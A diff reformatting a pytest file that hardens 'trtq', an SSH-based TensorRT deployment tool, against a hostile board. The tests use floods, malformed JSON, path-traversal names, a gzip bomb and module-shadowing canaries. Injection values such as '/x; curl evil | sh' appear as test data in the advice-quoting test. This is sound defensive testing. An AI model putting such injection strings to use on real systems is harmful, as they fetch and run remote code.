@@ -41,7 +41,9 @@ from trtq.testing.board_hostile import HostileBoard
 from trtq.verbs.deploy import deploy
 from trtq.verbs.fleet import fleet
 
-needs_sshd = pytest.mark.skipif(find_sshd() is None, reason="no OpenSSH server here: make system installs it")
+needs_sshd = pytest.mark.skipif(
+    find_sshd() is None, reason="no OpenSSH server here: make system installs it"
+)
 DEVICE = Device(name="bad", host="192.0.2.1")
 MIB = 1 << 20
 
@@ -89,40 +91,89 @@ def recorded(board: StandInBoard, verb: str, **asked: object) -> bytes:
     line = board.as_user([sys.executable, "-I", str(AGENT), verb, question])
     if os.geteuid() == 0:
         line = [sys.executable, "-I", str(AGENT), verb, question]
-    return subprocess.run(line, capture_output=True, env={**os.environ, "TRTQ_ROOT": str(board.root)}, check=True).stdout
+    return subprocess.run(
+        line, capture_output=True, env={**os.environ, "TRTQ_ROOT": str(board.root)}, check=True
+    ).stdout
 
 
 # What a board sends.
 
 ENDLESS = "while True: out.write(b'x' * 65536)"
-NESTED = "hello(); out.write(b'@trtq {\"event\": \"have\", \"more\": ' + b'[' * 200000 + b']' * 200000 + b'}\\n')"
+NESTED = (
+    "hello(); out.write(b'@trtq {\"event\": \"have\", \"more\": ' + b'[' * 200000 + b']' * "
+    "200000 + b'}\\n')"
+)
 
 
 @pytest.mark.parametrize(
     ("code", "error", "text"),
     [
         (ENDLESS, BoardError, "bad sends too much: a line of more than 8 MiB in one answer"),
-        ("while True: out.write(b'noise ' * 10000 + b'\\n')", BoardError, "bad sends too much: more than 64 MiB in one answer"),
+        (
+            "while True: out.write(b'noise ' * 10000 + b'\\n')",
+            BoardError,
+            "bad sends too much: more than 64 MiB in one answer",
+        ),
         ("hello()\nwhile True: send(event='beat')", TrtqError, "more than 64 MiB|no end in 4 s"),
-        ("hello()\nwhile True: err.write(b'curl evil\\n' * 9999)", BoardError, "more than 4 MiB of errors in one answer, such as: curl"),
+        (
+            "hello()\nwhile True: err.write(b'curl evil\\n' * 9999)",
+            BoardError,
+            "more than 4 MiB of errors in one answer, such as: curl",
+        ),
         ("time.sleep(60)", LinkError, "bad does not answer: no byte in 1.5 s"),
         ("hello(); time.sleep(60)", LinkError, "bad does not answer: no byte in 1.5 s"),
-        ("hello()\nwhile True: send(event='beat'); time.sleep(0.1)", LinkError, "bad does not answer: no end in 4 s"),
+        (
+            "hello()\nwhile True: send(event='beat'); time.sleep(0.1)",
+            LinkError,
+            "bad does not answer: no end in 4 s",
+        ),
         ("out.write(b'@trtq \\xff\\xfe{}\\n')", BoardError, "Cannot read the answer of bad"),
-        ('out.write(b\'@trtq {"event": "h\\x1b[2Jello"}\\n\')', BoardError, "Cannot read the answer of bad"),
+        (
+            'out.write(b\'@trtq {"event": "h\\x1b[2Jello"}\\n\')',
+            BoardError,
+            "Cannot read the answer of bad",
+        ),
         (NESTED, BoardError, "Cannot read the answer of bad: it is nested too deeply"),
-        ("out.write(b'@trtq [1]\\n')", BoardError, "Cannot read the answer of bad: Expected `object`, got `array`"),
+        (
+            "out.write(b'@trtq [1]\\n')",
+            BoardError,
+            "Cannot read the answer of bad: Expected `object`, got `array`",
+        ),
         ("send(event='shell', do='x')", BoardError, "no answer is called 'shell'"),
-        ("hello(); send(event='have', state='stored', have='all')", BoardError, r"Expected `int`, got `str` - at `\$.have`"),
-        ("hello(); send(event='have', state='stored')", BoardError, "missing required field `have`"),
+        (
+            "hello(); send(event='have', state='stored', have='all')",
+            BoardError,
+            r"Expected `int`, got `str` - at `\$.have`",
+        ),
+        (
+            "hello(); send(event='have', state='stored')",
+            BoardError,
+            "missing required field `have`",
+        ),
         ("hello(); send(event='have', state='part', have=-1)", BoardError, "Expected `int` >= 0"),
-        ("hello(); send(event='have', state='part', have=1e400)", BoardError, "Cannot read the answer of bad"),
-        ("hello(); send(event='refused', why='x' * 5000, mend=dict(name='', arguments={}))", BoardError, "length <= 4000"),
-        ('hello(); out.write(b\'@trtq {"event": "ha\')', SshError, "did not answer have: the agent ended without a word"),
+        (
+            "hello(); send(event='have', state='part', have=1e400)",
+            BoardError,
+            "Cannot read the answer of bad",
+        ),
+        (
+            "hello(); send(event='refused', why='x' * 5000, mend=dict(name='', arguments={}))",
+            BoardError,
+            "length <= 4000",
+        ),
+        (
+            'hello(); out.write(b\'@trtq {"event": "ha\')',
+            SshError,
+            "did not answer have: the agent ended without a word",
+        ),
         ("send(event='stale')", SshError, "Cannot put the agent on bad"),
         ("send(event='missing')", SshError, "Cannot put the agent on bad"),
         ("send(event='broken', why='zz', python='')", BoardError, "Cannot read the answer of bad"),
-        ("out.write(b'Welcome\\n'); sys.exit(127)", BoardError, "There is no python3 on bad: exit status 127"),
+        (
+            "out.write(b'Welcome\\n'); sys.exit(127)",
+            BoardError,
+            "There is no python3 on bad: exit status 127",
+        ),
         (
             "err.write(b'Illegal instruction\\n'); sys.exit(4)",
             BoardError,
@@ -164,17 +215,41 @@ def test_what_an_upload_meets(agent, bad, tmp_path, monkeypatch):
 @pytest.mark.parametrize(
     ("code", "error", "text"),
     [
-        ("send(event='file', size=10**14, sha256='0' * 64)", BoardError, "it announces 100000000000000 bytes, at most 1000 are expected"),
-        ("send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 100)", SshError, "its SHA-256 is another one"),
+        (
+            "send(event='file', size=10**14, sha256='0' * 64)",
+            BoardError,
+            "it announces 100000000000000 bytes, at most 1000 are expected",
+        ),
+        (
+            "send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 100)",
+            SshError,
+            "its SHA-256 is another one",
+        ),
         (
             "send(event='file', size=100, sha256='0' * 64)\nwhile True: out.write(b'x' * 65536)",
             SshError,
             "its SHA-256 is another one",
         ),
-        ("send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 9)", LinkError, "stopped in the middle of files/x"),
-        ("send(event='file', size=100, sha256='0' * 64); out.flush(); time.sleep(60)", LinkError, "no byte in 1.5 s"),
-        ("send(event='file', size=100, sha256='../../x')", BoardError, "Cannot read the answer of bad"),
-        ("send(event='beat')\nwhile True: send(event='beat')", TrtqError, "more than 64 MiB|no end in 4 s"),
+        (
+            "send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 9)",
+            LinkError,
+            "stopped in the middle of files/x",
+        ),
+        (
+            "send(event='file', size=100, sha256='0' * 64); out.flush(); time.sleep(60)",
+            LinkError,
+            "no byte in 1.5 s",
+        ),
+        (
+            "send(event='file', size=100, sha256='../../x')",
+            BoardError,
+            "Cannot read the answer of bad",
+        ),
+        (
+            "send(event='beat')\nwhile True: send(event='beat')",
+            TrtqError,
+            "more than 64 MiB|no end in 4 s",
+        ),
     ],
 )
 def test_what_a_download_meets(agent, bad, tmp_path, code, error, text):
@@ -198,12 +273,17 @@ def test_what_the_follower_of_a_job_meets(agent, bad, monkeypatch):
     with pytest.raises(BoardError, match="a job's log of more than 1000 lines"):
         agent.follow("aa")
     bad.says("wait", "hello(); send(event='job', state='running', key='aa')")
-    with pytest.raises(BoardError, match="it answers 20 times in a row before its time. trtq device stop bad aa"):
+    with pytest.raises(
+        BoardError, match="it answers 20 times in a row before its time. trtq device stop bad aa"
+    ):
         agent.follow("aa")
     job = {"title": "the work", "steps": [{"name": "s", "argv": ["true"]}]}
     good = "dict(ok=True, why='', mend=dict(name='', arguments={}), steps="
-    for result, text in (("", "the work is done without a result"), (f", result={good}[])", "the work has other steps than were asked for"),
-                         (f", result={good}[1])", "Expected `object`, got `int`")):  # fmt: skip
+    for result, text in (
+        ("", "the work is done without a result"),
+        (f", result={good}[])", "the work has other steps than were asked for"),
+        (f", result={good}[1])", "Expected `object`, got `int`"),
+    ):
         bad.says("wait", f"hello(); send(event='job', state='done', key='aa'{result})")
         with pytest.raises(BoardError, match=text):
             do(agent, "aa", job)
@@ -219,7 +299,9 @@ def test_what_unpacks_to_too_much(tmp_path):
             handle.write(b"\0" * MIB)
     assert bomb.stat().st_size < MIB
     tracemalloc.start()
-    with pytest.raises(BoardError, match="bomb.gz of bad unpacks to too much: more than 32 MiB out of"):
+    with pytest.raises(
+        BoardError, match="bomb.gz of bad unpacks to too much: more than 32 MiB out of"
+    ):
         gunzip(bomb, "bad", 32 * MIB)
     assert tracemalloc.get_traced_memory()[1] < 40 * MIB
     tracemalloc.stop()
@@ -233,12 +315,21 @@ def test_what_unpacks_to_too_much(tmp_path):
 
 def test_files_of_a_measurement_in_another_form(tmp_path):
     path = tmp_path / "watch.json.gz"
-    for content, text in (("[" * 9999, "Cannot read the readings"), ('{"columns": ["t"], "rows": []}', "it has t, not t, mw"),
-                          ('{"columns": [], "rows": [[1, 2]]}', "Cannot read the readings")):  # fmt: skip
+    for content, text in (
+        ("[" * 9999, "Cannot read the readings"),
+        ('{"columns": ["t"], "rows": []}', "it has t, not t, mw"),
+        ('{"columns": [], "rows": [[1, 2]]}', "Cannot read the readings"),
+    ):
         path.write_bytes(gzip.compress(content.encode()))
         with pytest.raises(BoardError, match=text):
             _readings(path, "bad")
-    for content in ('[{"computeMs": "x", "latencyMs": 1}]', '[{"computeMs": {}, "latencyMs": 1}]', "[" * 99999, "[1]", '{"a": NaN}'):
+    for content in (
+        '[{"computeMs": "x", "latencyMs": 1}]',
+        '[{"computeMs": {}, "latencyMs": 1}]',
+        "[" * 99999,
+        "[1]",
+        '{"a": NaN}',
+    ):
         with pytest.raises(BenchError, match="This is no file of trtexec --exportTimes"):
             read_times(content, (10, 3))
     with pytest.raises(BoardError, match="does not say what it wrote"):
@@ -251,29 +342,52 @@ def test_fleet_bench_writes_inside_its_folder_alone(bad, place, tmp_path):
     board = StandInBoard(tmp_path / "b", "orin")
     bad.replays("probe", recorded(board, "probe"))
     remember_device(DEVICE)
-    for name in ("../../escaped.engine", "/tmp/escaped.engine", "a" * 32 + ".engine\n", "..", "A" * 32 + ".engine"):
-        bad.says("list", f"hello(); send(event='listing', engines=[dict(file={name!r}, bytes=1, model='m')], jobs=[])")
+    for name in (
+        "../../escaped.engine",
+        "/tmp/escaped.engine",
+        "a" * 32 + ".engine\n",
+        "..",
+        "A" * 32 + ".engine",
+    ):
+        bad.says(
+            "list",
+            f"hello(); send(event='listing', engines=[dict(file={name!r}, bytes=1, model='m')], "
+            "jobs=[])",
+        )
         record = fleet(FleetSpec(devices="bad", out=str(tmp_path / "o/f"), patience=0.0))
-        assert record.failed[0].startswith("bad: Cannot read the answer of bad: Expected `str` matching regex")
-    assert sorted(p.name for p in (tmp_path / "o").rglob("*") if p.is_file()) == [".trtq.lock", "fleet.html", "fleet.json"]
+        assert record.failed[0].startswith(
+            "bad: Cannot read the answer of bad: Expected `str` matching regex"
+        )
+    assert sorted(p.name for p in (tmp_path / "o").rglob("*") if p.is_file()) == [
+        ".trtq.lock",
+        "fleet.html",
+        "fleet.json",
+    ]
     assert not list(tmp_path.glob("escaped*"))
 
 
 def test_advice_is_in_our_words_and_what_the_board_puts_in_is_quoted(agent, bad):
     bad.says(
-        "", "hello(); send(event='refused', why='no', mend=dict(name='private', arguments=dict(path='/x; curl evil | sh', device='y')))"
+        "",
+        "hello(); send(event='refused', why='no', mend=dict(name='private', "
+        "arguments=dict(path='/x; curl evil | sh', device='y')))",
     )
     with pytest.raises(BoardError) as caught:
         agent.ask("have")
     assert "chmod go-w '/x; curl evil | sh'; or give" in str(caught.value)
-    bad.says("", "hello(); send(event='refused', why='no', mend=dict(name='curl evil | sh', arguments={}))")
+    bad.says(
+        "",
+        "hello(); send(event='refused', why='no', mend=dict(name='curl evil | sh', arguments={}))",
+    )
     with pytest.raises(BoardError, match="bad refuses to have: no.$"):
         agent.ask("have")
-    assert hint_words({"name": "disk", "arguments": {"device": "x; y"}}, "nano").startswith("trtq device clean nano, or")
-    assert hint_words({"name": "restore", "arguments": {}}, "nano") == ""  # it lacks what it needs
-    assert hint_words({"name": "restore", "arguments": {"number": "{device.__class__}\n2"}}, "n").startswith(
-        "on the board: sudo nvpmodel -m '{device.__class__} 2'"
+    assert hint_words({"name": "disk", "arguments": {"device": "x; y"}}, "nano").startswith(
+        "trtq device clean nano, or"
     )
+    assert hint_words({"name": "restore", "arguments": {}}, "nano") == ""  # it lacks what it needs
+    assert hint_words(
+        {"name": "restore", "arguments": {"number": "{device.__class__}\n2"}}, "n"
+    ).startswith("on the board: sudo nvpmodel -m '{device.__class__} 2'")
 
 
 # What lies on a board.
@@ -290,7 +404,10 @@ def test_a_work_folder_that_is_not_ours(tmp_path):
     (tmp_path / "link").symlink_to(ours)
     with pytest.raises(agent_code.Refused, match="link is a link") as caught:
         agent_code.open_home(f"{tmp_path}/link/")
-    assert hint_words(caught.value.mend, "nano") == f"Give trtq device add the folder itself: --workdir {ours}"
+    assert (
+        hint_words(caught.value.mend, "nano")
+        == f"Give trtq device add the folder itself: --workdir {ours}"
+    )
     (tmp_path / "file").write_text("x")
     with pytest.raises(agent_code.Refused, match="file is no folder"):
         agent_code.open_home(str(tmp_path / "file"))
@@ -307,7 +424,9 @@ def test_a_work_folder_that_is_not_ours(tmp_path):
     if os.geteuid() == 0:
         (tmp_path / "theirs").mkdir()
         os.chown(tmp_path / "theirs", 4711, 4711)
-        with pytest.raises(agent_code.Refused, match=r"theirs belongs to another user \(4711, not root\)"):
+        with pytest.raises(
+            agent_code.Refused, match=r"theirs belongs to another user \(4711, not root\)"
+        ):
             agent_code.open_home(str(tmp_path / "theirs"))
 
 
@@ -341,7 +460,10 @@ def test_nothing_is_written_through_a_link(tmp_path):
 
 
 # NVIDIA's programs are Python here, and take the environment as it is: they do not count.
-CANARY = "if '/root/usr/' not in open('/proc/self/cmdline').read(): open({0!r}, 'a').write(__name__ + chr(10))\n"
+CANARY = (
+    "if '/root/usr/' not in open('/proc/self/cmdline').read(): open({0!r}, 'a').write(__name__ "
+    "+ chr(10))\n"
+)
 
 
 @needs_sshd
@@ -354,24 +476,43 @@ def test_the_boards_own_modules_do_not_run(place, tmp_path):
         user_site = board.home / ".local/lib" / f"python3.{_minor()}" / "site-packages"
         user_site.mkdir(parents=True)
         for folder in (board.home, extra):
-            for name in ("glob", "json", "base64", "stat", "os", "agent", "sitecustomize", "ctypes"):
+            for name in (
+                "glob",
+                "json",
+                "base64",
+                "stat",
+                "os",
+                "agent",
+                "sitecustomize",
+                "ctypes",
+            ):
                 (folder / f"{name}.py").write_text(CANARY.format(str(canary)))
         (user_site / "usercustomize.py").write_text(CANARY.format(str(canary)))
         login = board.folder / "login.sh"
         login.write_text(
-            login.read_text().replace("exec /bin/sh", f"export PYTHONPATH='{extra}' PYTHONSTARTUP='{extra}/os.py'\nexec /bin/sh")
+            login.read_text().replace(
+                "exec /bin/sh",
+                f"export PYTHONPATH='{extra}' PYTHONSTARTUP='{extra}/os.py'\nexec /bin/sh",
+            )
         )
         board._give_away()
         with Agent(find_device("orin"), Silent()) as agent:
             assert probe(agent).board == "orin-nano"
-            result, lines = do(agent, "abcd", {"title": "t", "steps": [{"name": "s", "argv": ["true"]}]})
+            result, lines = do(
+                agent, "abcd", {"title": "t", "steps": [{"name": "s", "argv": ["true"]}]}
+            )
             assert result["ok"], lines
             agent.ask("manifest", name="engines/x.json", value={})
         assert not canary.exists(), canary.read_text()
 
 
 def _minor() -> int:
-    said = subprocess.run(["/usr/bin/python3", "-c", "import sys; print(sys.version_info[1])"], capture_output=True, check=True, text=True)
+    said = subprocess.run(
+        ["/usr/bin/python3", "-c", "import sys; print(sys.version_info[1])"],
+        capture_output=True,
+        check=True,
+        text=True,
+    )
     return int(said.stdout)
 
 
@@ -383,7 +524,9 @@ def test_a_work_folder_is_enough(place, how, tmp_path):
         work = board.folder / "nvme"
         work.mkdir()
         board._give_away()
-        remember_device(msgspec.structs.replace(find_device("orin"), workdir=str(work / "it's here")))
+        remember_device(
+            msgspec.structs.replace(find_device("orin"), workdir=str(work / "it's here"))
+        )
         if how == "missing":
             login = board.folder / "login.sh"
             board.home.rmdir()
@@ -394,7 +537,11 @@ def test_a_work_folder_is_enough(place, how, tmp_path):
         assert record.built and Path(record.engine).parent == work / "it's here/engines"
         assert how == "missing" or list(board.home.iterdir()) == []
         remember_device(msgspec.structs.replace(find_device("orin"), workdir=".trtq"))
-        with pytest.raises(BoardError, match=r"orin refuses to take the agent: cannot write to .*/\.trtq: .*--workdir that can be written"):
+        with pytest.raises(
+            BoardError,
+            match=r"orin refuses to take the agent: cannot write to .*/\.trtq: .*--workdir that "
+            r"can be written",
+        ):
             deploy(spec(board, pooling(tmp_path / "m.onnx"), tmp_path / "o", bench=False))
 
 
@@ -406,16 +553,23 @@ def test_a_work_folder_of_others_is_refused_before_anything_is_put_there(orin, t
     theirs.chmod(0o777)
     remember_device(msgspec.structs.replace(find_device("orin"), workdir=str(theirs)))
     done = run_cli("device", "probe", "orin")
-    assert f"orin refuses to take the agent: others can write to {theirs} (mode 777)." in done.stderr
-    assert f"on the board: chmod go-w {theirs}; or give trtq device add another --workdir" in done.stderr
+    assert (
+        f"orin refuses to take the agent: others can write to {theirs} (mode 777)." in done.stderr
+    )
+    assert (
+        f"on the board: chmod go-w {theirs}; or give trtq device add another --workdir"
+        in done.stderr
+    )
     assert list(theirs.iterdir()) == []
 
 
 @needs_sshd
 def test_b05_a_python_without_a_module_is_named(place):
     hidden = (
-        "import sys\nclass Without(object):\n    def find_spec(self, name, path=None, target=None):\n        if name == '_ctypes':\n"
-        "            raise ModuleNotFoundError(\"No module named '_ctypes'\", name='_ctypes')\nsys.meta_path.insert(0, Without())\n"
+        "import sys\nclass Without(object):\n    def find_spec(self, name, path=None, "
+        "target=None):\n        if name == '_ctypes':\n"
+        "            raise ModuleNotFoundError(\"No module named '_ctypes'\", name='_ctypes')\n"
+        "sys.meta_path.insert(0, Without())\n"
     )
     with served(place, "orin") as board:
         introduce(board, "orin")
@@ -424,12 +578,21 @@ def test_b05_a_python_without_a_module_is_named(place):
         board._give_away()
         done = run_cli("device", "probe", "orin")
         assert done.returncode == 1
-        assert "The agent does not start on orin: ModuleNotFoundError: No module named '_ctypes'" in done.stderr
-        assert f"({board.folder}/bin/python3 3." in done.stderr and "Repair that Python" in done.stderr
+        assert (
+            "The agent does not start on orin: ModuleNotFoundError: No module named '_ctypes'"
+            in done.stderr
+        )
+        assert (
+            f"({board.folder}/bin/python3 3." in done.stderr and "Repair that Python" in done.stderr
+        )
         (board.folder / "bin/python3").unlink()
         login = board.folder / "login.sh"
         login.write_text(login.read_text().replace(":/usr/bin:/bin", ""))
-        with pytest.raises(BoardError, match=r"There is no python3 on orin: .*not found. on the board: sudo apt-get install python3"):
+        with pytest.raises(
+            BoardError,
+            match=r"There is no python3 on orin: .*not found. on the board: sudo apt-get install "
+            r"python3",
+        ):
             probe(Agent(find_device("orin"), Silent()))
 
 
@@ -443,29 +606,46 @@ def test_an_engine_that_was_changed_with_its_manifest_is_built_again(orin, tmp_p
 
     def change(content: bytes, **fields: object) -> None:
         engine.write_bytes(content)
-        manifest.write_text(json.dumps({**json.loads(manifest.read_text()), "engine_sha256": sha256_file(engine), **fields}))
+        manifest.write_text(
+            json.dumps(
+                {**json.loads(manifest.read_text()), "engine_sha256": sha256_file(engine), **fields}
+            )
+        )
 
     for content, fields in ((b"another engine", {}), (good, {"precision": "fp64"})):
         change(content, **fields)
         record = fleet(FleetSpec(devices="orin", out=str(tmp_path / "f")))
-        assert "it is not the one that was built from here. Deploy its model again" in record.failed[0]
+        assert (
+            "it is not the one that was built from here. Deploy its model again" in record.failed[0]
+        )
         heard = Heard()
         again = deploy(asked, heard)
         assert again.built and engine.read_bytes() == good
-        assert "orin: the engine on the board is not the one that was built from here: building again" in heard.notes
+        assert (
+            "orin: the engine on the board is not the one that was built from here: building again"
+            in heard.notes
+        )
         assert any("building again" in n for n in again.notes)
     engine.write_bytes(b"damaged")
     heard = Heard()
     assert deploy(asked, heard).built
-    assert "orin: the engine on the board was changed since it was built: building again" in heard.notes
+    assert (
+        "orin: the engine on the board was changed since it was built: building again"
+        in heard.notes
+    )
     manifest.write_text("[" * 5000)
     assert deploy(asked, heard).built
     (config_folder() / "engines.json").unlink()  # as on another workstation
     heard = Heard()
     assert not deploy(asked, heard).built
-    assert "orin: another workstation built the engine: its digest is kept here from now on" in heard.notes
+    assert (
+        "orin: another workstation built the engine: its digest is kept here from now on"
+        in heard.notes
+    )
     (config_folder() / "engines.json").write_text("[")
-    with pytest.raises(DeviceError, match="Cannot read the digests of engines in .*Move the file away"):
+    with pytest.raises(
+        DeviceError, match="Cannot read the digests of engines in .*Move the file away"
+    ):
         deploy(asked)
 
 
@@ -481,19 +661,34 @@ def test_words_of_the_board_are_not_sshs(orin):
         "ssh: connect to host 10.0.0.1 port 22: Connection refused",
         "ssh: Could not resolve hostname x: Name or service not known",
     ):
-        login.write_text(plain.replace("exec /bin/sh", f"echo {shlex.quote(text)} >&2; exit 255\nexec /bin/sh"))
+        login.write_text(
+            plain.replace("exec /bin/sh", f"echo {shlex.quote(text)} >&2; exit 255\nexec /bin/sh")
+        )
         with pytest.raises(LinkError, match=r"Is the board on, and in this network\?") as caught:
             probe(Agent(find_device("orin"), Silent()))
         assert "the connection ended; the board wrote: " in str(caught.value)
-        assert type(caught.value) is LinkError and not any(w in str(caught.value) for w in ("ssh-copy-id", "ssh-keygen", "sshd running"))
+        assert type(caught.value) is LinkError and not any(
+            w in str(caught.value) for w in ("ssh-copy-id", "ssh-keygen", "sshd running")
+        )
 
 
 def test_a_line_that_is_whole_is_read_at_once(tmp_path):
     """The reader in itself: lines, bytes behind them, and what is left over."""
-    code = "import os,time; os.write(1, b'a\\nb\\n' + b'x' * 100000 + b'\\nraw'); os.write(2, b'oops\\n'); os.close(1); time.sleep(0.1)"
-    process = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0)
+    code = (
+        "import os,time; os.write(1, b'a\\nb\\n' + b'x' * 100000 + b'\\nraw'); os.write(2, "
+        "b'oops\\n'); os.close(1); time.sleep(0.1)"
+    )
+    process = subprocess.Popen(
+        [sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0
+    )
     read = stream.Stream(process, "bad", Limits(), tmp_path / "log")
     lines = read.lines()
     assert [next(lines), next(lines), len(next(lines))] == [b"a\n", b"b\n", 100001]
-    assert (read.block(), read.block(), read.end(), read.errors, read.own) == (b"raw", b"", 0, "oops\n", "")
+    assert (read.block(), read.block(), read.end(), read.errors, read.own) == (
+        b"raw",
+        b"",
+        0,
+        "oops\n",
+        "",
+    )
     read.close()
